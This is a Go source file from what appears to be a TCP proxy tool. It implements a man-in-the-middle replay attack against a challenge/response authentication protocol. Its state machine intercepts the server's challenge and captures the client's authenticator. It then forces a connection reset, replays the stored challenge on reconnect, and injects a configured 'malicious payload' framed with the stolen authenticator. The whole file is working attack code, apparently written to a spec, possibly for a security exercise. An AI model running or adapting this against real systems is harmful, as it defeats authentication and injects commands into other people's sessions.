// Package mitm implements the process-wide challenge/response
// replay-authentication state machine (spec §4.5).
package mitm

import (
	"encoding/binary"
	"io"
	"strings"
	"sync"

	"github.com/MaxHTu/tcp-proxy/internal/frame"
	"github.com/MaxHTu/tcp-proxy/internal/logging"
)

// Phase is one state of the attack's finite-state machine.
type Phase int

const (
	PhaseIdle Phase = iota
	PhaseWaitingHMAC
	PhaseWaitingReconnect
	PhaseWaitingWelcome
	PhaseReadyForInjection
	PhaseDone
)

func (p Phase) String() string {
	switch p {
	case PhaseIdle:
		return "idle"
	case PhaseWaitingHMAC:
		return "waiting_hmac"
	case PhaseWaitingReconnect:
		return "waiting_reconnect"
	case PhaseWaitingWelcome:
		return "waiting_welcome"
	case PhaseReadyForInjection:
		return "ready_for_injection"
	case PhaseDone:
		return "done"
	default:
		return "unknown"
	}
}

const (
	challengeMarker = "#CHALLENGE#"
	welcomeMarker   = "#WELCOME#"
)

// Outcome tells the caller (a forwarder) what to do with the message
// that was just handed to ProcessMessage.
type Outcome struct {
	// Suppress, when true, means the MITM machine has already decided
	// this message's fate (and possibly written replacement bytes
	// itself); the regular rule evaluator must not run on it.
	Suppress bool
	// ForceTeardown, when true, means the connection handler must tear
	// down this connection with a forced TCP RST (spec §4.5/§6).
	ForceTeardown bool
}

// State is the single process-wide MITM state instance (spec §3 "MITM
// global state"). It is created once at startup and passed by
// reference into every forwarder; all reads and writes happen under
// one mutex so transitions are linearizable (invariant iii).
type State struct {
	mu sync.Mutex

	cfg AttackConfig
	log logging.Logger

	phase               Phase
	storedChallenge     []byte
	storedAuthenticator []byte
	injected            bool
	connectionCount     int
	messageCount        int
}

// NewState constructs a State guarded by its own mutex, ready to
// process messages for the given attack configuration.
func NewState(cfg AttackConfig, log logging.Logger) *State {
	return &State{cfg: cfg, log: log, phase: PhaseIdle}
}

// Reset restores idle state for a fresh attack cycle. Never called
// automatically by connection churn — that persistence across
// reconnects is the point of the attack (spec §3).
func (s *State) Reset() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.phase = PhaseIdle
	s.storedChallenge = nil
	s.storedAuthenticator = nil
	s.injected = false
}

// Phase returns the current phase, for tests and diagnostics.
func (s *State) Phase() Phase {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.phase
}

// ProcessMessage evaluates one decoded message against the attack
// state machine. role must be "server_to_client" or "client_to_server"
// (the forwarder's MitmRole, which the connection handler assigns by
// which socket the forwarder reads from; the outer IPs and the
// RoleConfig SourceIP/TargetIP are not consulted); any other role is a
// no-op pass-through. writer is the same-direction writer
// the forwarder would otherwise use to relay this message — the
// machine writes directly to it when it needs to replace or inject
// bytes.
func (s *State) ProcessMessage(role string, msg frame.Message, writer io.Writer) (Outcome, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.messageCount++

	switch role {
	case "server_to_client":
		return s.processServerToClient(msg, writer)
	case "client_to_server":
		return s.processClientToServer(msg, writer)
	default:
		return Outcome{}, nil
	}
}

func (s *State) processServerToClient(msg frame.Message, writer io.Writer) (Outcome, error) {
	if !s.cfg.ServerToClient.Enabled {
		return Outcome{}, nil
	}
	isChallenge := msg.Decoded.Kind == frame.KindText && strings.HasPrefix(msg.Decoded.Text, challengeMarker)

	switch s.phase {
	case PhaseIdle:
		if !isChallenge {
			return Outcome{}, nil
		}
		s.storedChallenge = append([]byte(nil), msg.RawBytes...)
		s.connectionCount++
		s.phase = PhaseWaitingHMAC
		s.logPhase("idle", "challenge_intercepted")

		if _, err := writer.Write(s.cfg.ServerToClient.MaliciousPayload); err != nil {
			return Outcome{}, err
		}
		return Outcome{Suppress: true}, nil

	case PhaseWaitingReconnect:
		if !isChallenge {
			return Outcome{}, nil
		}
		s.phase = PhaseWaitingWelcome
		s.logPhase("waiting_reconnect", "challenge_replayed")
		if _, err := writer.Write(s.storedChallenge); err != nil {
			return Outcome{}, err
		}
		return Outcome{Suppress: true}, nil

	case PhaseWaitingWelcome:
		if msg.Decoded.Kind == frame.KindText && strings.HasPrefix(msg.Decoded.Text, welcomeMarker) {
			s.phase = PhaseReadyForInjection
			s.logPhase("waiting_welcome", "welcome_detected")
		}
		return Outcome{}, nil

	default:
		return Outcome{}, nil
	}
}

func (s *State) processClientToServer(msg frame.Message, writer io.Writer) (Outcome, error) {
	if !s.cfg.ServerToClient.Enabled && !s.cfg.ClientToServer.Enabled {
		return Outcome{}, nil
	}

	switch s.phase {
	case PhaseWaitingHMAC:
		if isHandshakeMarker(msg) {
			return Outcome{}, nil
		}
		s.storedAuthenticator = append([]byte(nil), msg.RawBytes...)
		s.phase = PhaseWaitingReconnect
		s.logPhase("waiting_hmac", "authenticator_captured")
		return Outcome{Suppress: true, ForceTeardown: true}, nil

	case PhaseReadyForInjection:
		if s.injected {
			return Outcome{}, nil
		}
		payload := s.cfg.ServerToClient.MaliciousPayload
		auth := s.storedAuthenticator
		if len(auth) >= 4 {
			auth = auth[4:] // drop the captured frame's own length prefix
		}
		body := append(append([]byte(nil), payload...), auth...)
		framed := make([]byte, 4+len(body))
		binary.BigEndian.PutUint32(framed[:4], uint32(len(body)))
		copy(framed[4:], body)

		if _, err := writer.Write(framed); err != nil {
			return Outcome{}, err
		}
		s.injected = true
		s.phase = PhaseDone
		s.logPhase("ready_for_injection", "payload_injected")
		return Outcome{}, nil

	default:
		return Outcome{}, nil
	}
}

func isHandshakeMarker(msg frame.Message) bool {
	if msg.Decoded.Kind != frame.KindText {
		return false
	}
	return strings.HasPrefix(msg.Decoded.Text, challengeMarker) || strings.HasPrefix(msg.Decoded.Text, welcomeMarker)
}

func (s *State) logPhase(phase, event string) {
	if s.log == nil {
		return
	}
	s.log.Mitm(phase, event)
}
